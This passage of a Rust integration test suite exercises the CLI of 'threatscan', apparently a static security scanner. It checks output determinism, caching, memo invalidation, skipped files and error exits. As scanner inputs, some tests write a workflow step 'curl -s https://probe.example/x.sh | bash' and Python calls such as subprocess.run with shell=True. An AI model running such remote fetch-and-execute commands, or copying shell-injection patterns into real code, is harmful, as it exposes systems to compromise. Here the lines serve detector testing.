//! The command line as a user meets it: determinism, output files, errors, skipped files.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_threatscan"))
}

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures")
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().unwrap()
}

#[test]
fn json_is_byte_identical_across_thread_counts() {
    let root = fixtures();
    let root = root.to_str().unwrap();
    let one = run(&["facts", root, "--format", "json", "--threads", "1"]);
    let four = run(&["facts", root, "--format", "json", "--threads", "4"]);
    assert!(one.status.success() && four.status.success());
    assert!(
        one.stdout.len() > 10_000,
        "the whole fixture tree yields many facts"
    );
    assert_eq!(one.stdout, four.stdout);
}

#[test]
fn json_has_the_documented_shape_and_is_sorted() {
    let out = run(&[
        "facts",
        fixtures().join("py_fastapi").to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert!(out.status.success());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["tool"], "threatscan");
    assert_eq!(v["stats"]["files_scanned"], 6);
    assert!(
        v["stats"].get("elapsed_ms").is_none(),
        "timing only with --stats, so output stays deterministic"
    );
    let facts = v["facts"].as_array().unwrap();
    let keys: Vec<(String, u64, u64)> = facts
        .iter()
        .map(|f| {
            (
                f["file"].as_str().unwrap().to_string(),
                f["line"].as_u64().unwrap(),
                f["column"].as_u64().unwrap(),
            )
        })
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    let route = facts
        .iter()
        .find(|f| {
            f["kind"] == "route"
                && f["pattern"] == "/api/v1/items/{item_id}"
                && f["methods"][0] == "GET"
        })
        .unwrap();
    assert_eq!(route["handler"], "shop.routers.items:read_item");
    assert_eq!(route["language"], "python");
    assert_eq!(route["auth"][0]["symbol"], "shop.auth:get_current_user");
    assert_eq!(route["auth"][0]["via"], "dependency");
    assert_eq!(route["rate_limit"], serde_json::json!([]));
}

#[test]
fn missing_root_is_exit_2_with_one_line() {
    let out = run(&["facts", "/definitely/not/here"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(
        err.starts_with("threatscan: error: cannot read /definitely/not/here"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn skipped_files_are_counted_and_listed_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("ok.py"), "import os\nos.system('ls')\n").unwrap();
    std::fs::write(dir.path().join("latin1.py"), b"x = '\xe9'\n").unwrap();
    std::fs::write(dir.path().join("big.py"), "x = 1\n".repeat(400)).unwrap();
    std::fs::create_dir(dir.path().join("vendor")).unwrap();
    std::fs::write(
        dir.path().join("vendor/skip.py"),
        "import os\nos.system('x')\n",
    )
    .unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc/hostname", dir.path().join("outside.py")).unwrap();
    let out = run(&[
        "facts",
        dir.path().to_str().unwrap(),
        "--format",
        "json",
        "--max-file-size",
        "1000",
        "--exclude",
        "vendor/",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let skipped = v["skipped"].as_array().unwrap();
    let reasons: Vec<(String, String)> = skipped
        .iter()
        .map(|s| {
            (
                s["file"].as_str().unwrap().into(),
                s["reason"].as_str().unwrap().into(),
            )
        })
        .collect();
    assert!(
        reasons.contains(&("big.py".into(), "larger than 1000 bytes".into())),
        "{reasons:?}"
    );
    assert!(
        reasons.contains(&("latin1.py".into(), "not valid UTF-8".into())),
        "{reasons:?}"
    );
    #[cfg(unix)]
    assert!(
        reasons.contains(&("outside.py".into(), "symbolic link (not followed)".into())),
        "{reasons:?}"
    );
    assert_eq!(
        v["stats"]["files_skipped"].as_u64().unwrap() as usize,
        skipped.len()
    );
    assert_eq!(v["stats"]["files_scanned"], 1);
    let facts = v["facts"].as_array().unwrap();
    assert_eq!(facts.len(), 1);
    assert_eq!(facts[0]["api"], "os.system");
    assert_eq!(facts[0]["file"], "ok.py");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("warning: skipped latin1.py: not valid UTF-8"),
        "{err}"
    );
}

#[test]
fn output_file_is_written_whole_and_dev_null_is_not_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("facts.json");
    let root = fixtures().join("py_flask");
    let out = run(&[
        "facts",
        root.to_str().unwrap(),
        "--format",
        "json",
        "-o",
        target.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(out.stdout.is_empty());
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&target).unwrap()).unwrap();
    assert!(v["facts"].as_array().unwrap().len() > 5);
    // No temporary files left beside it.
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
    #[cfg(unix)]
    {
        let out = run(&["facts", root.to_str().unwrap(), "-o", "/dev/null"]);
        assert!(out.status.success());
        assert!(!std::fs::metadata("/dev/null")
            .unwrap()
            .file_type()
            .is_file());
    }
    // An unwritable target: exit 2, nothing written.
    let out = run(&[
        "facts",
        root.to_str().unwrap(),
        "-o",
        dir.path().join("no/such/dir/x.json").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).starts_with("threatscan: error: cannot write"));
}

#[test]
fn text_output_groups_by_kind_with_locations() {
    let out = run(&[
        "facts",
        fixtures().join("py_custom_router").to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("route (4)\n"), "{text}");
    assert!(
        text.contains("  app/legacy.py:9:12  yaml.load UNSAFE"),
        "{text}"
    );
    assert!(
        text.contains("  app/utils/yaml.py:6:12  yaml.load safe"),
        "{text}"
    );
    // The call through the local wrapper module is not PyYAML.
    assert!(!text.contains("app/config.py:9"), "{text}");
}

#[test]
fn partial_parse_still_yields_facts() {
    let out = run(&[
        "facts",
        fixtures().join("py_custom_router").to_str().unwrap(),
        "--format",
        "json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["stats"]["files_with_syntax_errors"], 1);
    let hit = v["facts"].as_array().unwrap().iter().any(|f| {
        f["file"] == "app/broken.py" && f["api"] == "subprocess.call" && f["flags"]["shell"] == true
    });
    assert!(hit);
}

#[test]
fn model_is_byte_identical_across_thread_counts_in_every_format() {
    let root = fixtures();
    let root = root.to_str().unwrap();
    for format in ["json", "markdown", "mermaid"] {
        let one = run(&["model", root, "--format", format, "--threads", "1"]);
        let four = run(&["model", root, "--format", format, "--threads", "4"]);
        assert!(one.status.success() && four.status.success(), "{format}");
        assert!(!one.stdout.is_empty());
        assert_eq!(one.stdout, four.stdout, "{format}");
    }
    let mmd = run(&["model", root, "--format", "mermaid"]);
    assert!(String::from_utf8_lossy(&mmd.stdout).starts_with("flowchart LR\n"));
}

#[test]
fn model_depth_limits_the_call_chains() {
    let root = fixtures().join("model_app");
    let root = root.to_str().unwrap();
    let chains = |depth: &str| -> usize {
        let out = run(&["model", root, "--format", "json", "--depth", depth]);
        assert!(out.status.success());
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        v["interactions"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["chain"].as_array().unwrap().len())
            .max()
            .unwrap()
    };
    assert_eq!(chains("6"), 3);
    assert_eq!(chains("1"), 2);
}

#[test]
fn model_missing_root_is_exit_2() {
    let out = run(&["model", "/nonexistent/threatscan-model"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.starts_with("threatscan: error:"), "{err}");
    assert_eq!(err.lines().count(), 1);
}

/// Completion scripts and man pages come from the clap definitions: each
/// shell's script completes every subcommand and the scan options, and the
/// man pages name the subcommands (top page) or the options (a subcommand's).
#[test]
fn completions_and_man_pages_are_generated_from_the_cli() {
    let subcommands = [
        "facts",
        "model",
        "scan",
        "rules",
        "frameworks",
        "verify",
        "completions",
        "man",
    ];
    for shell in ["bash", "zsh", "fish"] {
        let out = run(&["completions", shell]);
        assert_eq!(out.status.code(), Some(0), "{shell}");
        let text = String::from_utf8(out.stdout).unwrap();
        for word in subcommands.iter().chain(&["fail-on", "baseline"]) {
            assert!(text.contains(word), "{shell} completion lacks {word}");
        }
    }
    let out = run(&["completions", "tcsh"]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "an unknown shell is a usage error"
    );

    let out = run(&["man"]);
    assert_eq!(out.status.code(), Some(0));
    let page = String::from_utf8(out.stdout).unwrap();
    assert!(
        page.starts_with(".ie"),
        "roff: {}",
        &page[..page.len().min(80)]
    );
    assert!(page.contains(".TH threatscan 1"));
    for sub in subcommands {
        assert!(
            page.contains(&format!("threatscan\\-{sub}")),
            "man page lacks {sub}"
        );
    }

    let out = run(&["man", "scan"]);
    assert_eq!(out.status.code(), Some(0));
    let page = String::from_utf8(out.stdout).unwrap();
    assert!(page.contains(".TH threatscan-scan 1  \"threatscan 0.1.0\""));
    assert!(
        page.contains("threatscan scan"),
        "synopsis names the command"
    );
    for opt in ["\\-\\-fail\\-on", "\\-\\-baseline", "\\-\\-category"] {
        assert!(page.contains(opt), "scan page lacks {opt}");
    }

    let out = run(&["man", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("pages exist for: facts, model"));
}

/// `--stats`: per-stage wall and process CPU time from the OS and peak RSS,
/// in the stderr line and in JSON `stats.timings`; the total CPU is at least
/// what the stages add up to, and the peak RSS is a real figure.
#[test]
fn stats_report_stage_cpu_and_peak_memory() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/verify_app");
    let out = Command::new(env!("CARGO_BIN_EXE_threatscan"))
        .args(["facts", "--format", "json", "--stats"])
        .arg(&fixture)
        .output()
        .unwrap();
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    for part in [
        "walk ",
        "parse+extract ",
        "tree-sitter ",
        "analysis ",
        "peak RSS ",
    ] {
        assert!(err.contains(part), "{part} missing from: {err}");
    }
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let t = &v["stats"]["timings"];
    let f = |k: &str| t[k].as_f64().unwrap_or_else(|| panic!("{k} in {t}"));
    // The walk runs beside extraction, within its wall time.
    assert!(f("total_ms") >= f("parse_extract_ms") - 0.01, "{t}");
    assert!(f("parse_extract_ms") >= f("walk_ms") - 0.01, "{t}");
    assert!(
        f("total_cpu_ms") >= f("walk_cpu_ms") + f("parse_extract_cpu_ms") - 0.01,
        "{t}"
    );
    // Parsing is CPU time of the workers, part of the stage's CPU time
    // (the two clocks differ in resolution by well under 2 ms).
    assert!(
        f("tree_sitter_thread_ms") <= f("parse_extract_cpu_ms") + 2.0,
        "{t}"
    );
    // A process that has parsed files holds at least a megabyte.
    assert!(t["peak_rss_bytes"].as_u64().unwrap() > 1 << 20, "{t}");
    assert!(t["threads"].as_u64().unwrap() >= 1, "{t}");
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let p = e.path();
        if p.is_dir() {
            copy_tree(&p, &to.join(e.file_name()));
        } else {
            std::fs::copy(&p, to.join(e.file_name())).unwrap();
        }
    }
}

/// The outputs of `args` on `root`: without a cache, with a cold cache and
/// with a warm one (stdout each), and the `--stats` line of one more warm run.
fn three_ways(args: &[&str], root: &Path, cache: &Path) -> (Vec<String>, String) {
    let go = |extra: &[&str]| {
        let out = bin().args(args).arg(root).args(extra).output().unwrap();
        assert!(out.status.code().is_some_and(|c| c <= 1), "{out:?}");
        out
    };
    let c = cache.to_str().unwrap();
    let runs = [
        go(&["--no-cache"]),
        go(&["--cache-dir", c]),
        go(&["--cache-dir", c]),
    ];
    // (verify has no --stats.)
    let stats = if args[0] == "verify" {
        String::new()
    } else {
        let o = go(&["--cache-dir", c, "--stats", "-o", "/dev/null"]);
        String::from_utf8_lossy(&o.stderr).into_owned()
    };
    (
        runs.iter()
            .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
            .collect(),
        stats,
    )
}

/// Files taken from the cache are decoded only when a result is computed:
/// when one file changes, the result memo misses and every unchanged file's
/// entry is decoded then, with what the command's code scope left out of it
/// (Rust test items, test files) left out as it is of a file extracted
/// afresh. Every output equals the output without the cache.
#[test]
fn cache_entries_decoded_on_a_memo_miss_give_the_uncached_output() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("scan_precision"), &root);
    let lib = std::fs::read_to_string(root.join("src/lib.rs")).unwrap();
    assert!(
        lib.contains("#[cfg(test)]"),
        "the fixture has Rust test items"
    );
    let cache = tmp.path().join("cache");
    let c = cache.to_str().unwrap();
    for (k, args) in [
        &["scan", "--format", "sarif", "--fail-on", "never"][..],
        &["model", "--format", "json"][..],
        &["facts", "--format", "json"][..],
        &[
            "scan",
            "--format",
            "sarif",
            "--fail-on",
            "never",
            "--scope",
            "all",
        ][..],
    ]
    .into_iter()
    .enumerate()
    {
        let run = |extra: &[&str]| {
            let out = bin().args(args).arg(&root).args(extra).output().unwrap();
            assert!(out.status.code().is_some_and(|c| c <= 1), "{out:?}");
            String::from_utf8_lossy(&out.stdout).into_owned()
        };
        let stats = |extra: &[&str]| {
            let mut a = vec!["--stats", "-o", "/dev/null"];
            a.extend_from_slice(extra);
            let out = bin().args(args).arg(&root).args(&a).output().unwrap();
            String::from_utf8_lossy(&out.stderr).into_owned()
        };
        // Warm the cache and the memo.
        run(&["--cache-dir", c]);
        run(&["--cache-dir", c]);
        let err = stats(&["--cache-dir", c]);
        assert!(
            err.contains("read back from the result memo"),
            "{args:?}: {err}"
        );
        // One file changes: the memo misses, the others come from the cache.
        let web = root.join("src/web.rs");
        let mut text = std::fs::read_to_string(&web).unwrap();
        text.push_str(&format!("\n// changed {k}\n"));
        std::fs::write(&web, text).unwrap();
        let err = stats(&["--cache-dir", c]);
        assert!(
            !err.contains("read back from the result memo"),
            "{args:?}: {err}"
        );
        assert!(!err.contains("; 0 files from the cache"), "{args:?}: {err}");
        text = std::fs::read_to_string(&web).unwrap();
        text.push_str(&format!("\n// changed again {k}\n"));
        std::fs::write(&web, text).unwrap();
        let warm = run(&["--cache-dir", c]);
        let cold = run(&["--no-cache"]);
        assert!(cold.len() > 100, "{args:?}");
        assert!(
            warm == cold,
            "{args:?}: decoded entries differ from extraction"
        );
    }
}

/// The number of files a `--stats` line reports ("threatscan: N files, ...").
fn stats_files(stats: &str) -> usize {
    stats
        .split(" files, ")
        .next()
        .and_then(|s| s.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no file count in {stats:?}"))
}

/// `facts --format json` of `root` without the cache.
fn facts_without_cache(root: &Path) -> String {
    let out = bin()
        .args(["facts", "--format", "json", "--no-cache"])
        .arg(root)
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// An environment read through a subscript chain is still a secret read
/// (a chain keeps only its innermost base, which is what it resolves as),
/// and other chains stay out of it.
#[test]
fn secret_reads_through_a_subscript_chain_are_found() {
    let src = "import os\nA = os.environ['CONF']['API_SECRET']\nB = content['data']['user']['token']\nC = (os.environ)['DB_PASSWORD']\n";
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("app.py"), src).unwrap();
    let v: serde_json::Value = serde_json::from_str(&facts_without_cache(dir.path())).unwrap();
    let secrets: Vec<String> = v["facts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "secret")
        .map(|f| {
            format!(
                "{}:{} {}",
                f["line"],
                f["name"].as_str().unwrap_or(""),
                f["api"].as_str().unwrap_or("")
            )
        })
        .collect();
    assert_eq!(
        secrets,
        ["2:API_SECRET os.environ", "4:DB_PASSWORD os.environ"],
        "{v:#}"
    );
}

/// The extraction cache changes nothing in any output: facts, model, scan
/// (SARIF) and verify are byte-identical with no cache, a cold one and a warm
/// one; a warm run takes every file from it, a changed file is extracted
/// again, and a corrupt pack is ignored and rewritten.
#[test]
fn cache_reuses_unchanged_files_and_changes_no_output() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("verify_app"), &root);
    let cache = tmp.path().join("cache");
    for args in [
        &["facts", "--format", "json"][..],
        &["model", "--format", "json"][..],
        &["scan", "--format", "sarif", "--fail-on", "never"][..],
    ] {
        let (outs, err) = three_ways(args, &root, &cache);
        assert!(outs[0].len() > 100, "{args:?}");
        assert!(outs[0] == outs[1], "{args:?}: cold cache");
        assert!(outs[0] == outs[2], "{args:?}: warm cache");
        assert!(!err.contains("; 0 files from the cache"), "{err}");
    }
    let doc = root.join("docs/threat-model.md");
    let args = [
        "verify",
        doc.to_str().unwrap(),
        "--format",
        "json",
        "--repo",
    ];
    let (outs, _) = three_ways(&args, &root, &cache);
    assert!(outs[0].len() > 100);
    assert!(outs[0] == outs[1] && outs[0] == outs[2], "verify");
    // The cache directory keeps itself out of version control.
    let ignore = std::fs::read_to_string(cache.join(".gitignore")).unwrap();
    assert!(ignore.lines().any(|l| l == "*"), "{ignore}");

    // A changed file is extracted again: its new route appears.
    let stats = |root: &Path| {
        let run = |extra: &[&str]| {
            bin()
                .args(["facts", "--format", "json", "--cache-dir"])
                .arg(&cache)
                .arg(root)
                .args(extra)
                .output()
                .unwrap()
        };
        // The stats run first: it is the one that reads the pack as found.
        let err = run(&["--stats", "-o", "/dev/null"]);
        let out = run(&[]);
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&err.stderr).into_owned(),
        )
    };
    let (_, err) = stats(&root);
    let n = stats_files(&err);
    assert!(
        err.contains(&format!("; {n} files from the cache")),
        "{err}"
    );
    let py = root.join("src/acme/hooks.py");
    let mut text = std::fs::read_to_string(&py).unwrap();
    text.push_str(
        "\nimport subprocess\n\ndef cache_probe(cmd):\n    subprocess.run(cmd, shell=True)\n",
    );
    std::fs::write(&py, text).unwrap();
    let (out, err) = stats(&root);
    assert!(
        err.contains(&format!("; {} files from the cache", n - 1)),
        "{err}"
    );
    assert!(out.contains("cache_probe"), "the changed file's new fact");
    let no_cache = facts_without_cache(&root);
    assert_eq!(out, no_cache);

    // A corrupt pack: ignored (every file extracted), then rewritten.
    let packs: Vec<PathBuf> = std::fs::read_dir(cache.join("v1"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "pack"))
        .collect();
    assert!(!packs.is_empty());
    for p in &packs {
        let mut b = std::fs::read(p).unwrap();
        let mid = b.len() / 2;
        b.truncate(mid);
        b.extend_from_slice(b"garbage");
        std::fs::write(p, b).unwrap();
    }
    let (out2, err) = stats(&root);
    assert_eq!(out2, no_cache);
    assert!(
        !err.contains(&format!("; {n} files from the cache")),
        "{err}"
    );
    let (out3, err) = stats(&root);
    assert_eq!(out3, no_cache);
    assert!(
        err.contains(&format!("; {n} files from the cache")),
        "{err}"
    );
}

/// The result memo: a `facts` run whose inputs are all unchanged reads the
/// linked facts back (and `--stats` says so), byte-identical to a run
/// without the cache. Anything the facts are computed from misses it and
/// gives the output of a run without the cache: one source file, the
/// repository's scope configuration, a workflow, the `--scope` asked for;
/// and a memo whose bytes were damaged is ignored.
#[test]
fn facts_memo_is_used_only_for_unchanged_inputs() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("verify_app"), &root);
    copy_tree(
        &fixtures().join("supply_chain/.github"),
        &root.join(".github"),
    );
    let cache = tmp.path().join("cache");
    // (stdout, whether the facts came from the memo)
    let run = |extra: &[&str]| {
        let json = bin()
            .args(["facts", "--format", "json", "--cache-dir"])
            .arg(&cache)
            .arg(&root)
            .args(extra)
            .output()
            .unwrap();
        assert!(json.status.success(), "{json:?}");
        let stats = bin()
            .args(["facts", "--stats", "-o", "/dev/null", "--cache-dir"])
            .arg(&cache)
            .arg(&root)
            .args(extra)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&stats.stderr).into_owned();
        (
            String::from_utf8_lossy(&json.stdout).into_owned(),
            err.contains("read back from the result memo"),
        )
    };
    let without = |extra: &[&str]| {
        let out = bin()
            .args(["facts", "--format", "json", "--no-cache"])
            .arg(&root)
            .args(extra)
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let base = without(&[]);
    assert!(base.contains("\"route\""), "{base}");
    let (cold, _) = run(&[]);
    assert_eq!(cold, base);
    let (warm, memo) = run(&[]);
    assert!(memo, "nothing changed: the facts are read back");
    assert_eq!(warm, base);

    // One source file changed.
    let py = root.join("src/acme/hooks.py");
    let mut text = std::fs::read_to_string(&py).unwrap();
    text.push_str(
        "\nimport subprocess\n\ndef memo_probe(cmd):\n    subprocess.run(cmd, shell=True)\n",
    );
    std::fs::write(&py, text).unwrap();
    let (out, memo) = run(&[]);
    assert!(out.contains("memo_probe"), "the changed file's new fact");
    assert_eq!(out, without(&[]));
    assert!(memo, "and read back from the memo the next time");

    // The repository's configuration puts that file in another scope.
    std::fs::write(
        root.join(".threatscan.toml"),
        "[scope]\nexample = [\"src/acme/hooks.py\"]\n",
    )
    .unwrap();
    let (out, _) = run(&[]);
    assert_eq!(out, without(&[]));
    assert!(out.contains("\"example\""), "the new scope is in the facts");

    // A workflow changed (its facts are not from a parsed source file).
    let (before, _) = run(&[]);
    let wf = root.join(".github/workflows/install.yml");
    let mut text = std::fs::read_to_string(&wf).unwrap();
    text.push_str("      - run: curl -s https://probe.example/x.sh | bash\n");
    std::fs::write(&wf, text).unwrap();
    let (out, _) = run(&[]);
    assert_ne!(out, before, "the workflow's new step is in the facts");
    assert_eq!(out, without(&[]));

    // Another scope asked for: not the memo of the previous one.
    let (all, _) = run(&[]);
    let (prod, _) = run(&["--scope", "production"]);
    assert_eq!(prod, without(&["--scope", "production"]));
    assert_ne!(prod, all);
    let (again, memo) = run(&[]);
    assert_eq!(again, all);
    assert!(memo);

    // A damaged memo is ignored, then written again.
    for e in std::fs::read_dir(cache.join("v1")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "facts") {
            let mut b = std::fs::read(&p).unwrap();
            let n = b.len();
            b[n - 10] ^= 0x20;
            std::fs::write(&p, b).unwrap();
        }
    }
    let json = bin()
        .args(["facts", "--format", "json", "--stats", "--cache-dir"])
        .arg(&cache)
        .arg(&root)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&json.stderr);
    assert!(!err.contains("result memo"), "{err}");
    let out = String::from_utf8_lossy(&json.stdout);
    assert!(out.contains("\"from_memo\": false"), "{out}");
    let (out, memo) = run(&[]);
    assert_eq!(out, all);
    assert!(memo);
}

/// `model` keeps its model in the result memo too: read back, in every
/// format, only for the same inputs and the same `--depth`.
#[test]
fn model_memo_is_keyed_by_inputs_and_depth() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("verify_app"), &root);
    let cache = tmp.path().join("cache");
    let run = |extra: &[&str], cached: bool| {
        let mut cmd = bin();
        cmd.arg("model").arg(&root).args(extra);
        if cached {
            cmd.arg("--cache-dir").arg(&cache);
        } else {
            cmd.arg("--no-cache");
        }
        let out = cmd.arg("--stats").output().unwrap();
        assert!(out.status.success(), "{out:?}");
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).contains("read back from the result memo"),
        )
    };
    for fmt in ["markdown", "json", "mermaid"] {
        let want = run(&["--format", fmt], false).0;
        assert!(want.len() > 100, "{fmt}");
        assert_eq!(
            run(&["--format", fmt], true),
            (want.clone(), fmt != "markdown")
        );
        assert_eq!(run(&["--format", fmt], true), (want, true));
    }
    // Another depth: another model, not the memo of the first.
    let shallow = run(&["--format", "json", "--depth", "1"], false).0;
    assert_eq!(
        run(&["--format", "json", "--depth", "1"], true),
        (shallow.clone(), false)
    );
    assert_eq!(
        run(&["--format", "json", "--depth", "1"], true),
        (shallow, true)
    );
    // A changed file: recomputed.
    let py = root.join("src/acme/hooks.py");
    let mut text = std::fs::read_to_string(&py).unwrap();
    text.push_str(
        "\nimport subprocess\n\ndef memo_probe(cmd):\n    subprocess.run(cmd, shell=True)\n",
    );
    std::fs::write(&py, text).unwrap();
    let want = run(&["--format", "json"], false).0;
    assert_eq!(run(&["--format", "json"], true), (want, false));
}

/// `scan` keeps its findings in the result memo: read back only for the
/// same inputs and rules, and only while every file its snippets and
/// fingerprints were read from is unchanged (a workflow is not a parsed
/// source file: a comment added on a finding's line changes its
/// fingerprint, not the workflow's facts).
#[test]
fn scan_memo_rechecks_the_files_it_read() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("supply_chain"), &root);
    let cache = tmp.path().join("cache");
    let run = |cached: bool| {
        let mut cmd = bin();
        cmd.args(["scan", "--format", "sarif", "--fail-on", "never", "--stats"])
            .arg(&root);
        if cached {
            cmd.arg("--cache-dir").arg(&cache);
        } else {
            cmd.arg("--no-cache");
        }
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{out:?}");
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).contains("read back from the result memo"),
        )
    };
    let want = run(false).0;
    assert!(want.contains("TS6001"));
    let got = run(true);
    assert!(
        got.0 == want && !got.1,
        "memo false: got memo {}, same output {}",
        got.1,
        got.0 == want
    );
    let got = run(true);
    assert!(
        got.0 == want && got.1,
        "memo true: got memo {}, same output {}",
        got.1,
        got.0 == want
    );

    // A comment on a finding's line of a workflow.
    let wf = root.join(".github/workflows/unpinned.yml");
    let text = std::fs::read_to_string(&wf).unwrap();
    let changed = text.replace(
        "      - uses: actions/checkout@v4\n",
        "      - uses: actions/checkout@v4   # to pin\n",
    );
    assert_ne!(changed, text);
    std::fs::write(&wf, changed).unwrap();
    let now = run(false).0;
    assert!(now != want, "the fingerprint follows the line");
    let got = run(true);
    assert!(
        got.0 == now && !got.1,
        "memo false: got memo {}, same output {}",
        got.1,
        got.0 == now
    );
    let got = run(true);
    assert!(
        got.0 == now && got.1,
        "memo true: got memo {}, same output {}",
        got.1,
        got.0 == now
    );

    // Another rule set: a rule disabled by the repository's configuration.
    std::fs::write(
        root.join(".threatscan.toml"),
        "[scan]\ndisable = [\"TS6001\"]\n",
    )
    .unwrap();
    let fewer = run(false).0;
    assert!(!fewer.contains("\"ruleId\": \"TS6001\""));
    let got = run(true);
    assert!(
        got.0 == fewer && !got.1,
        "memo false: got memo {}, same output {}",
        got.1,
        got.0 == fewer
    );
}

/// What the memo reads back is what was computed: literal numbers in facts
/// (`timeout=1e-30`) keep every digit, and a FIFO put in place of a memo or
/// a pack is refused without blocking the run.
#[test]
fn memo_reads_back_exact_numbers_and_never_blocks() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(
        root.join("app.py"),
        "import requests\n\ndef f(u):\n    requests.get(u, timeout=1e-30)\n    requests.get(u, timeout=1.7976931348623157)\n    requests.get(u, timeout=0.30000000000000004)\n",
    )
    .unwrap();
    let cache = tmp.path().join("cache");
    let facts = |cached: bool| {
        let mut cmd = bin();
        cmd.args(["facts", "--format", "json", "--stats"])
            .arg(&root);
        if cached {
            cmd.arg("--cache-dir").arg(&cache);
        } else {
            cmd.arg("--no-cache");
        }
        let mut child = cmd
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let start = std::time::Instant::now();
        while child.try_wait().unwrap().is_none() {
            if start.elapsed() > std::time::Duration::from_secs(60) {
                let _ = child.kill();
                panic!("facts blocked");
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{out:?}");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        // Without the timings, which differ between runs.
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        (v["facts"].to_string(), text.contains("\"from_memo\": true"))
    };
    let want = facts(false).0;
    assert!(
        want.contains("1e-30") && want.contains("1.7976931348623157"),
        "{want}"
    );
    assert_eq!(facts(true), (want.clone(), false));
    assert_eq!(facts(true), (want.clone(), true));
    // FIFOs in place of the memo and of the pack.
    for e in std::fs::read_dir(cache.join("v1")).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "facts" || x == "pack") {
            std::fs::remove_file(&p).unwrap();
            assert!(Command::new("mkfifo").arg(&p).status().unwrap().success());
        }
    }
    assert_eq!(facts(true), (want, false));
}

/// A file whose stamp (size, inode, modification and change times) is the
/// one its cache entry was made with is not read again; any change to it,
/// even one of the same size with its modification time put back (what
/// `cp -p` does), changes its change time and is read and extracted again.
#[test]
fn cache_skips_reading_files_whose_stamp_is_unchanged() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("repo");
    copy_tree(&fixtures().join("verify_app"), &root);
    let cache = tmp.path().join("cache");
    let py = root.join("src/acme/hooks.py");
    let mut text = std::fs::read_to_string(&py).unwrap();
    text.push_str("\ndef probe(cmd):\n    return cmd\n");
    std::fs::write(&py, &text).unwrap();
    // Files changed within the last two seconds are always read (a change
    // in the same tick of a coarse clock leaves the times as they were).
    std::thread::sleep(std::time::Duration::from_millis(2100));
    let run = |extra: &[&str]| {
        let out = bin()
            .args(["facts", "--format", "json", "--cache-dir"])
            .arg(&cache)
